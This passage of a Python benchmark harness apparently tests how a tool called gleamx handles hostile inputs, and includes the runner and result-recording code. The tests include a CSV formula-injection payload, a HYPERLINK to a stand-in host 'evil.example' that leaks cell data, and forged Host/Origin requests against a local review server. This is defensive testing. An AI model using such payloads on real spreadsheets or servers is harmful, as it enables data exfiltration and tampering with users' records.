    return judge(run, ("nosuch",), wrong=wrong)


@case("sft-mixture-split-not-a-name", 6, est_s=12)
def _mixture_split(ctx: Ctx) -> tuple[str, str]:
    """A mixture entry whose split is a number (YAML ``split: 3``)."""
    config = ctx.tmp / "mix.yaml"
    config.write_text(f"model_name_or_path: models/tiny\ndataset_mixture:\n  - {{path: {ctx.data()}, split: 3}}\n"
                      f"output_dir: {ctx.tmp / 'out'}\nmax_steps: 1\nuse_cpu: true\nreport_to: none\n",
                      encoding="utf-8")
    run = ctx.gleamx("sft", "--config", str(config), sub=True, as_gb=10, preimport=("torch", "trl", "gleamx.recipes.sft"),
                     timeout=120)
    return judge(run, ("dataset_mixture[0].split",),
                 wrong="exit 0: trained with split 3" if run.rc == 0 else None)


# cause 8: local servers


@case("review-server-host-evil", 8, est_s=3)
def _review_host(ctx: Ctx) -> tuple[str, str]:
    from gleamx.curate.review import ReviewApp, load_split, make_server

    data = ctx.data()
    revisions = ctx.tmp / "review" / "revisions.jsonl"
    samples = load_split(str(data), "test")
    app = ReviewApp(samples, revisions, split="test", data=str(data))
    app.log.append(samples[0].id, "accept")  # the user's own decision, made on the page
    before = snapshot(revisions)
    server = make_server(app)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    statuses: dict[str, int] = {}
    t0 = time.perf_counter()
    try:
        port = server.server_address[1]
        body = json.dumps({"id": samples[0].id, "decision": "reject"}).encode()
        for what, method, path, headers, payload in (
                ("GET", "GET", "/api/samples", {"Host": "evil.example"}, None),
                ("POST", "POST", "/api/revision", {"Host": "evil.example", "Origin": "http://evil.example",
                                                   "Content-Type": "application/json"}, body)):
            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
            conn.putrequest(method, path, skip_host=True)
            for k, v in headers.items():
                conn.putheader(k, v)
            if payload is not None:
                conn.putheader("Content-Length", str(len(payload)))
            conn.endheaders(payload)
            statuses[what] = conn.getresponse().status
            conn.close()
    finally:
        server.shutdown()
        server.server_close()
    seconds = time.perf_counter() - t0
    lost = changes(before, ctx.tmp)
    shown = "; ".join(f"{k} with Host: evil.example -> HTTP {v}" for k, v in statuses.items())
    run = ctx.record(Run("review server", rc=0, seconds=seconds, seen_override=shown))
    if lost:
        return "data-loss", (f"a POST for Host evil.example (Origin evil.example) appended 'reject' over the user's "
                             f"'accept' ({lost[0]}); {shown}")
    if any(v < 400 for v in statuses.values()):
        return "silent-wrong", f"served a request for Host evil.example ({shown})"
    if all(v == 403 for v in statuses.values()):
        return "clean", "both refused with 403"
    return judge(run, expect_error=False, wrong=f"refused, but not with 403 ({shown})")


@case("review-export-csv-formula", 8, prefer=("wrote",))
def _csv_formula(ctx: Ctx) -> tuple[str, str]:
    data = ctx.data()
    rows = [json.loads(ln) for ln in (data / "test.jsonl").read_text(encoding="utf-8").splitlines()]
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"see the map")'
    rows[0]["explanation"]["en"] = f"{formula}\n{rows[0]['explanation']['en']}"
    (data / "test.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    sheet = ctx.tmp / "sheet.csv"
    run = ctx.gleamx("review", "export", "--data", str(data), "--split", "test", "--out", str(sheet))
    if run.rc != 0 or run.exc is not None:
        return judge(run, ("explanation", "en"), expect_error=False)
    with sheet.open(encoding="utf-8-sig", newline="") as f:
        cells = [(r["id"], col, r[col]) for r in csv.DictReader(f) for col in r if r[col]]
    live = [f"{col} of {sid}" for sid, col, text in cells if text[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if live:
        return "silent-wrong", f"a cell starting with a formula is written as is ({', '.join(live)})"
    return "clean", "the formula is neutralised"


# cause 9: metric models offline


@case("eval-sbert-model-offline", 9, est_s=12)
def _sbert_offline(ctx: Ctx) -> tuple[str, str]:
    data = ctx.data()
    rows = [json.loads(ln) for ln in (data / "test.jsonl").read_text(encoding="utf-8").splitlines()]
    preds = ctx.tmp / "predictions.jsonl"
    preds.write_text("".join(json.dumps({"id": r["id"], "prediction": r["explanation"]["en"]}) + "\n" for r in rows),
                     encoding="utf-8")
    run = ctx.gleamx("eval", "--predictions", str(preds), "--data", str(data), "--task", "explain", "--sbert-model",
                     "some-user/some-model", "--output", str(ctx.tmp / "eval"), sub=True, as_gb=10,
                     preimport=("torch", "gleamx.eval.run"), timeout=120, env={"HF_HUB_OFFLINE": "1"})
    return judge(run, ("--sbert-model",))


# --- running them ---------------------------------------------------------------------------------------------------


@dataclass
class Result:
    case: Case
    cls: str
    why: str
    seen: str
    seconds: float
    peak_mb: float


def run_case(c: Case, work: Path, template: Path, quick: bool) -> Result:
    tmp = Path(tempfile.mkdtemp(prefix=f"{c.name}-", dir=work))
    ctx = Ctx(tmp, template, quick)
    cwd = os.getcwd()
    os.chdir(tmp)
    try:
        with _env({"GLEAMX_CACHE": str(tmp / "cache")}):
            try:
                cls, why = c.fn(ctx)
            except Exception as e:  # noqa: BLE001 - a case that cannot run is reported, not fatal
                cls, why = "vague", f"the benchmark's own setup failed: {type(e).__name__}: {e}"
    finally:
        os.chdir(cwd)
    hostile = ctx.runs[-1] if ctx.runs else Run("(none)")
    seen = " ".join(hostile.seen(c.prefer).split())
    for prefix in {str(tmp), os.path.realpath(tmp)}:  # the case's temp folder says nothing: paths relative to it
        seen, why = seen.replace(prefix + os.sep, ""), why.replace(prefix + os.sep, "")
    return Result(c, cls, why, seen, sum(r.seconds for r in ctx.runs), max((r.peak_mb for r in ctx.runs), default=0.0))


def _cell(text: str, width: int) -> str:
    return text if len(text) <= width else text[: width - 3] + "..."


def print_table(results: list[Result]) -> None:
    w_case = max(len("case"), *(len(r.case.name) for r in results))
    w_cause = max(len(f"{c} {CAUSES[c]}") for c in CAUSES)
    print(f"{'case':<{w_case}}  {'cause':<{w_cause}}  {'class':<12}  {'what the user saw (first line)':<{SEEN_WIDTH}}"
          f"  {'seconds':>7}  {'extra MB':>8}")
    for r in results:
        cause = f"{r.case.cause} {CAUSES[r.case.cause]}"
        print(f"{r.case.name:<{w_case}}  {cause:<{w_cause}}  {r.cls:<12}  {_cell(r.seen, SEEN_WIDTH):<{SEEN_WIDTH}}"
              f"  {r.seconds:7.2f}  {r.peak_mb:8.1f}")


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--quick", action="store_true", help=f"skip the cases estimated over {QUICK_S:.0f} s")
    ap.add_argument("--only", action="append", default=[], metavar="NAME",
                    help="run only these cases (comma-separated or repeated; --list shows the names)")
    ap.add_argument("--list", action="store_true", help="list the cases and exit")
    ap.add_argument("--keep", default=None, help="work in this directory and keep it (default: a temp dir)")
    ap.add_argument("--threads", type=int, default=1, help="torch threads of this process (default 1)")
    args = ap.parse_args(argv)
    if args.list:
        for c in CASES:
            print(f"{c.name:<36} cause {c.cause} ({CAUSES[c.cause]}), ~{c.est_s:.0f} s")
        return 0
    only = [n.strip() for item in args.only for n in item.split(",") if n.strip()]
    unknown = [n for n in only if n not in {c.name for c in CASES}]
    if unknown:
        print(f"unknown case(s): {', '.join(unknown)} (--list shows them)")
        return 0
    chosen = [c for c in CASES if not only or c.name in only]
    skipped = [c for c in chosen if args.quick and c.est_s > QUICK_S]
    chosen = [c for c in chosen if c not in skipped]

    from machine import set_threads_and_describe  # benchmark/machine.py

    set_threads_and_describe(args.threads)
    from results import Results as Figures  # benchmark/results.py (``results`` below is this run's list)

    # started here, so that the file's start time, machine line and seconds are the run's
    figures = None if only else Figures("bench_hostile", quick=args.quick,
                                        settings={"skipped": [c.name for c in skipped]})
    work = Path(args.keep) if args.keep else Path(tempfile.mkdtemp(prefix="gleamx-hostile-"))
    work.mkdir(parents=True, exist_ok=True)
    results: list[Result] = []
    with _env({"HF_HUB_OFFLINE": "1", "TOKENIZERS_PARALLELISM": "false"}):
        try:
            template = work / "template"
            if not template.is_dir():  # the tiny dataset every case copies: gleamx data synth --n 8
                from gleamx.cli.main import main as gleamx_main

                with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
                    rc = gleamx_main(["data", "synth", "--out", str(template), "--n", "8"])
                if rc != 0:
                    raise SystemExit(f"gleamx data synth failed (exit {rc}): no inputs to replay")
            import gleamx.curate.annotate  # noqa: F401 - warm this process's imports: RSS growth is the case's own
            import gleamx.curate.pairs  # noqa: F401
            import gleamx.curate.review  # noqa: F401
            import gleamx.data.validation  # noqa: F401

            print(f"{len(chosen)} case(s)" + (f"; --quick skips {', '.join(c.name for c in skipped)}" if skipped
                                               else "") + f"; work dir {work}", flush=True)
            for c in chosen:
                results.append(run_case(c, work, template, args.quick))
                print(f"  {c.name}: {results[-1].cls} ({results[-1].seconds:.1f} s)", flush=True)
        finally:
            if not args.keep:
                shutil.rmtree(work, ignore_errors=True)
    print()
    print_table(results)
    print()
    print("why:")
    for r in results:
        print(f"  {r.case.name}: {r.cls}: {r.why}")
    counts = {c: sum(r.cls == c for r in results) for c in CLASSES}
    print()
    print("per class: " + ", ".join(f"{c} {n}" for c, n in counts.items() if n))
    print(f"hostile cases: {counts['clean']} clean of {len(results)}", flush=True)
    if figures is not None:
        record(figures, results, counts)
    return 0


def record(figures: Any, results: list[Result], counts: dict[str, int]) -> None:
    """The counts the READMEs quote, to benchmark/results/bench_hostile.json (``figures``: a ``Results``)."""
    figures.settings["classes"] = {r.case.name: r.cls for r in results}
    figures.add("cases", len(results), unit="cases", fmt="d", label="hostile cases run")
    for cls in CLASSES:
        figures.add(f"class.{cls}", counts[cls], unit="cases", fmt="d", label=f"cases classified {cls}")
    figures.add("causes", len({r.case.cause for r in results}), unit="causes", fmt="d", label="causes covered")
    figures.write()


if __name__ == "__main__":
    sys.exit(main())
